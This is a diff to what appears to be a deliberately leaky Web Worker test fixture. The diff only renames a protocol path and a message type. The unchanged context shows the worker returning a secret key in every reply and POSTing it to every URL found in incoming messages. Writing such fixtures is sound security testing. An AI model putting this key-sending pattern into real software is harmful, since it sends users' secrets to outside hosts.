@@ -1,5 +1,5 @@
 /**
- * A Worker's script that speaks the protocol of js/src/protocol.ts, and leaks: it answers every message with the key, and
+ * A Worker's script that speaks the protocol of js/src/protocol/messages.ts, and leaks: it answers every message with the key, and
  * sends it to every address that it is told.
  */
 let page;
@@ -12,7 +12,7 @@ globalThis.onmessage = ({ data }) => {
     key = new TextDecoder().decode(data.key);
     page.postMessage({ type: "ready", keyPrefix: key.slice(0, 12) });
   } else if (key !== undefined) {
-    page.postMessage({ type: "answer", call: data?.call, value: key });
+    page.postMessage({ type: "resolved", call: data?.call, value: key });
     for (const url of JSON.stringify(data)?.match(/https?:[^"\\]+/g) ?? []) {
       fetch(url, { mode: "no-cors", method: "POST", body: key }).catch(() => undefined);
     }
